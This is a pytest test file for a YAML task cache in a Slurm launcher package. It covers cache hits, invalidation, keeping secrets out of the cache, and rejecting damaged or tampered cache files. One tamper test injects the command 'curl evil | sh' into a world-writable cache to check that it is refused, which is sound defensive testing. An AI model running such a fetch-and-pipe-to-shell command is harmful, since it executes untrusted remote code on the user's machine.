"""The task cache: a task validated before comes back the same, without PyYAML or pydantic,
and anything validation depends on that changed (the file, the overrides, the environment
value an override takes, the directory, a path on disk) validates it afresh."""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from konduktor_slurm.task import (
    Resources,
    SlurmOptions,
    Task,
    TaskError,
    TaskOverrides,
    load_task,
)
from konduktor_slurm.task import cache as task_cache
from konduktor_slurm.task.model import Accelerator

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "tasks"
WORLD = FIXTURES / "world"


def accepted_fixtures() -> list[Path]:
    paths = [FIXTURES / "konduktor_full.yaml", FIXTURES / "slurm_native.yaml"]
    for path in sorted(WORLD.glob("*.yaml")):
        if "# expect: ok" in path.read_text():
            paths.append(path)
    return paths


def cached_text(home: Path) -> str:
    path = home / task_cache.CACHE_NAME
    return path.read_text() if path.exists() else ""


def entries(home: Path) -> list[dict]:
    text = cached_text(home)
    return json.loads(text)["entries"] if text else []


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "project" / "code").mkdir(parents=True)
    (tmp_path / "project" / "code" / "train.py").write_text("print(1)\n")
    (tmp_path / "project" / "data.csv").write_text("1,2\n")
    return tmp_path / "project"


def write(path: Path, text: str) -> Path:
    path.write_text(textwrap.dedent(text))
    return path


TASK = """\
    name: cached
    workdir: code
    file_mounts:
      /data/data.csv: data.csv
    envs:
      LR: "0.1"
    resources:
      cpus: 2
      memory: 1.5
      accelerators: H100:8
      cloud: aws
      job_config:
        max_restarts: 2
        checkpoint_signal: USR1
    slurm:
      partition: gpu
      sbatch_options: ["--exclusive", "--mail-type=END"]
    run: python train.py
"""


# ---- the cached form -----------------------------------------------------------------------


@pytest.mark.parametrize("path", accepted_fixtures(), ids=lambda path: path.stem)
def test_every_accepted_real_task_comes_back_from_json_unchanged(path: Path) -> None:
    task = load_task(path, base_dir=path.parent)
    back = task_cache.task_from_json(json.loads(json.dumps(task_cache.task_to_json(task))))
    without_secrets = dataclasses.replace(task, secrets={})
    assert back == without_secrets
    assert repr(back) == repr(without_secrets)  # 32 stays 32, 1.5 stays 1.5


def test_the_cached_form_names_every_field_of_the_model() -> None:
    # A field added to the model but not to the cache would come back as its default.
    def names(record: type) -> set[str]:
        return {field.name for field in dataclasses.fields(record)}

    assert set(task_cache.TASK_FIELDS) | {"secrets"} == names(Task)
    assert set(task_cache.RESOURCES_FIELDS) == names(Resources)
    assert set(task_cache.SLURM_FIELDS) == names(SlurmOptions)
    assert names(Accelerator) == {"name", "count"}


@pytest.mark.parametrize(
    "damage",
    [
        lambda t: t.pop("run"),
        lambda t: t.update(num_nodes="2"),
        lambda t: t.update(num_nodes=True),
        lambda t: t.update(envs={"A": 1}),
        lambda t: t["resources"].update(memory_gib="1"),
        lambda t: t["resources"].update(checkpoint={"signal": "", "grace": 1}),
        lambda t: t["resources"].update(accelerator={"name": "H100"}),
        lambda t: t["slurm"].update(sbatch_options=[["exclusive"]]),
        lambda t: t.update(warnings="text"),
        lambda t: t.update(extra=1),
    ],
)
def test_a_damaged_cached_task_is_refused(project: Path, damage) -> None:
    data = task_cache.task_to_json(load_task(write(project / "t.yaml", TASK), base_dir=project))
    damage(data)
    with pytest.raises((ValueError, TypeError)):
        task_cache.task_from_json(data)


# ---- hits and misses -----------------------------------------------------------------------


def test_a_second_load_is_the_same_task_from_the_cache(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    path = write(project / "task.yaml", TASK)
    first = load_task(path, base_dir=project, cache_home=home)
    assert len(entries(home)) == 1
    assert (home / task_cache.CACHE_NAME).stat().st_mode & 0o777 == 0o600
    second = load_task(path, base_dir=project, cache_home=home)
    assert second == first
    assert second.warnings == first.warnings and any("cloud" in w for w in first.warnings)
    assert first.workdir == project / "code"


def test_a_hit_imports_neither_yaml_nor_pydantic(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    write(project / "task.yaml", TASK)
    program = textwrap.dedent(
        f"""
        import sys
        from pathlib import Path
        from konduktor_slurm.task import load_task
        task = load_task(Path("task.yaml"), cache_home=Path({str(home)!r}))
        print(repr(task))
        print(sorted(m for m in ("yaml", "pydantic") if m in sys.modules))
        """
    )

    def run() -> list[str]:
        out = subprocess.run(
            [sys.executable, "-c", program], cwd=project, capture_output=True, text=True, check=True
        )
        return out.stdout.splitlines()

    first, second = run(), run()
    assert first[1] == "['pydantic', 'yaml']"
    assert second == [first[0], "[]"]


def load(path: Path, home: Path, **kwargs) -> Task:
    return load_task(path, cache_home=home, **kwargs)


def test_an_edited_file_is_validated_again(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    path = write(project / "task.yaml", TASK)
    assert load(path, home, base_dir=project).run == "python train.py"
    write(path, TASK.replace("python train.py", "python eval.py"))
    assert load(path, home, base_dir=project).run == "python eval.py"
    write(path, TASK.replace("cpus: 2", "cpus: two"))
    with pytest.raises(TaskError, match="cpus"):
        load(path, home, base_dir=project)


def test_overrides_and_the_environment_values_they_take_are_part_of_the_key(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    path = write(project / "task.yaml", TASK)
    assert load(path, home, base_dir=project).num_nodes == 1
    assert load(path, home, base_dir=project, overrides=TaskOverrides(num_nodes="2")).num_nodes == 2
    from_env = TaskOverrides(envs=["SEED"])
    monkeypatch.setenv("SEED", "1")
    assert load(path, home, base_dir=project, overrides=from_env).envs["SEED"] == "1"
    monkeypatch.setenv("SEED", "2")
    assert load(path, home, base_dir=project, overrides=from_env).envs["SEED"] == "2"
    monkeypatch.delenv("SEED")
    with pytest.raises(TaskError, match="SEED is not set"):
        load(path, home, base_dir=project, overrides=from_env)


def test_relative_paths_follow_the_directory_they_are_read_from(
    project: Path, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    other = tmp_path / "other"
    (other / "code").mkdir(parents=True)
    (other / "data.csv").write_text("")
    path = write(project / "task.yaml", TASK)
    assert load(path, home, base_dir=project).workdir == project / "code"
    assert load(path, home, base_dir=other).workdir == other / "code"


def test_a_repointed_symlink_or_a_removed_workdir_is_seen(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    (project / "v1").mkdir()
    (project / "v2").mkdir()
    (project / "current").symlink_to("v1")
    path = write(project / "task.yaml", TASK.replace("workdir: code", "workdir: current"))
    assert load(path, home, base_dir=project).workdir == project / "v1"
    (project / "current").unlink()
    (project / "current").symlink_to("v2")
    assert load(path, home, base_dir=project).workdir == project / "v2"
    (project / "current").unlink()
    with pytest.raises(TaskError, match="directory 'current' does not exist") as fresh:
        load(path, home, base_dir=project)
    with pytest.raises(TaskError) as uncached:
        load_task(path, base_dir=project)
    assert str(fresh.value) == str(uncached.value)


def test_a_mount_source_that_became_a_directory_is_seen(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    path = write(project / "task.yaml", TASK)
    assert load(path, home, base_dir=project).file_mounts["/data/data.csv"] == project / "data.csv"
    (project / "data.csv").unlink()
    (project / "data.csv").mkdir()
    facts = {tuple(fact) for fact in entries(home)[0]["looked_at"]}
    assert ("data.csv", str(project / "data.csv"), "file") in facts
    task_cache_entries = len(entries(home))
    load(path, home, base_dir=project)
    facts = {tuple(fact) for fact in entries(home)[0]["looked_at"]}
    assert ("data.csv", str(project / "data.csv"), "dir") in facts
    assert len(entries(home)) == task_cache_entries  # the entry was replaced, not added


def test_a_tilde_path_follows_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "kdhome"
    for user in ("alice", "bob"):
        (tmp_path / user / "code").mkdir(parents=True)
    path = write(tmp_path / "task.yaml", "workdir: ~/code\nrun: 'true'\n")
    monkeypatch.setenv("HOME", str(tmp_path / "alice"))
    assert load(path, home).workdir == tmp_path / "alice" / "code"
    monkeypatch.setenv("HOME", str(tmp_path / "bob"))
    assert load(path, home).workdir == tmp_path / "bob" / "code"


def test_another_konduktor_version_does_not_reuse_entries(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write(project / "task.yaml", TASK)
    key = task_cache.cache_key(path.read_text(), "task.yaml", path, project, None)
    monkeypatch.setattr(task_cache, "__version__", "99.0")
    assert task_cache.cache_key(path.read_text(), "task.yaml", path, project, None) != key
    monkeypatch.setattr(task_cache, "_code_stamp", lambda: [["schema.py", 1, 2]])
    assert task_cache.cache_key(path.read_text(), "task.yaml", path, project, None) != key


# ---- what is never cached ------------------------------------------------------------------


def test_secrets_never_reach_the_cache(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    with_secret = write(
        project / "secret.yaml", "secrets:\n  API_TOKEN: s3cr3t-in-file\nrun: 'true'\n"
    )
    assert load(with_secret, home, base_dir=project).secrets == {"API_TOKEN": "s3cr3t-in-file"}
    plain = write(project / "plain.yaml", "run: 'true'\n")
    monkeypatch.setenv("TOKEN", "s3cr3t-from-env")
    by_flag = TaskOverrides(secrets=["TOKEN", "OTHER=s3cr3t-on-line"])
    task = load(plain, home, base_dir=project, overrides=by_flag)
    assert task.secrets == {"TOKEN": "s3cr3t-from-env", "OTHER": "s3cr3t-on-line"}
    assert "s3cr3t" not in cached_text(home)
    assert entries(home) == []
    # and a secret-free launch of the same file is cached as usual
    load(plain, home, base_dir=project)
    assert len(entries(home)) == 1


def test_an_env_file_is_not_cached(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    env_file = write(project / ".env", "A=1\n")
    path = write(project / "task.yaml", "run: 'true'\n")
    overrides = TaskOverrides(env_file=env_file)
    assert load(path, home, base_dir=project, overrides=overrides).envs == {"A": "1"}
    write(env_file, "A=2\n")
    assert load(path, home, base_dir=project, overrides=overrides).envs == {"A": "2"}
    assert entries(home) == []


def test_a_refused_task_is_not_cached(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    path = write(project / "task.yaml", "num_nodes: zero\nrun: 'true'\n")
    for _ in range(2):
        with pytest.raises(TaskError, match="num_nodes"):
            load(path, home, base_dir=project)
    assert entries(home) == []


# ---- the file itself -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        "not json",
        "[]",
        '{"format": 1, "entries": {}}',
        '{"format": 0, "entries": []}',
        "[" * 100_000,
    ],
)
def test_a_damaged_cache_file_is_ignored_and_rewritten(
    project: Path, tmp_path: Path, content: str
) -> None:
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    (home / task_cache.CACHE_NAME).write_text(content)
    os.chmod(home / task_cache.CACHE_NAME, 0o600)
    path = write(project / "task.yaml", TASK)
    assert load(path, home, base_dir=project).name == "cached"
    assert len(entries(home)) == 1


def test_a_damaged_entry_is_validated_afresh(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    path = write(project / "task.yaml", TASK)
    good = load(path, home, base_dir=project)
    payload = json.loads(cached_text(home))
    payload["entries"][0]["task"]["num_nodes"] = "many"
    (home / task_cache.CACHE_NAME).write_text(json.dumps(payload))
    assert load(path, home, base_dir=project) == good


def test_an_entry_naming_an_impossible_path_is_validated_afresh(
    project: Path, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    path = write(project / "task.yaml", TASK)
    good = load(path, home, base_dir=project)
    payload = json.loads(cached_text(home))
    payload["entries"][0]["looked_at"][0][0] = "code\u0000"  # os.stat: ValueError
    (home / task_cache.CACHE_NAME).write_text(json.dumps(payload))
    assert load(path, home, base_dir=project) == good


def test_a_cache_others_can_write_is_not_trusted(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    path = write(project / "task.yaml", TASK)
    load(path, home, base_dir=project)
    payload = json.loads(cached_text(home))
    payload["entries"][0]["task"]["run"] = "curl evil | sh"
    cache_file = home / task_cache.CACHE_NAME
    cache_file.write_text(json.dumps(payload))
    os.chmod(cache_file, 0o666)
    assert load(path, home, base_dir=project).run == "python train.py"
    os.unlink(cache_file)
    (tmp_path / "elsewhere.json").write_text(json.dumps(payload))
    cache_file.symlink_to(tmp_path / "elsewhere.json")
    assert load(path, home, base_dir=project).run == "python train.py"


def test_the_cache_keeps_the_newest_entries(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    count = task_cache.MAX_ENTRIES + 5
    for index in range(count):
        write(project / f"t{index}.yaml", f"name: t{index}\nrun: 'true'\n")
        load(project / f"t{index}.yaml", home, base_dir=project)
    names = [entry["task"]["name"] for entry in entries(home)]
    assert names == [f"t{index}" for index in reversed(range(5, count))]


def test_an_unwritable_home_is_no_error(project: Path, tmp_path: Path) -> None:
    home = tmp_path / "home-is-a-file"
    home.write_text("")
    path = write(project / "task.yaml", TASK)
    assert load(path, home, base_dir=project).name == "cached"


def test_processes_filling_the_cache_at_once_leave_a_sound_file(
    project: Path, tmp_path: Path
) -> None:
    home = tmp_path / "home"
    program = textwrap.dedent(
        f"""
        import sys
        from pathlib import Path
        from konduktor_slurm.task import load_task
        index = sys.argv[1]
        for _ in range(3):
            task = load_task(Path(f"t{{index}}.yaml"), cache_home=Path({str(home)!r}))
            assert task.name == f"t{{index}}", task
        """
    )
    for index in range(8):
        write(project / f"t{index}.yaml", f"name: t{index}\nrun: 'true'\n")
    procs = [
        subprocess.Popen([sys.executable, "-c", program, str(index)], cwd=project)
        for index in range(8)
    ]
    assert [proc.wait(timeout=120) for proc in procs] == [0] * 8
    assert 1 <= len(entries(home)) <= 8
    assert not list(home.glob(".task-cache-*"))
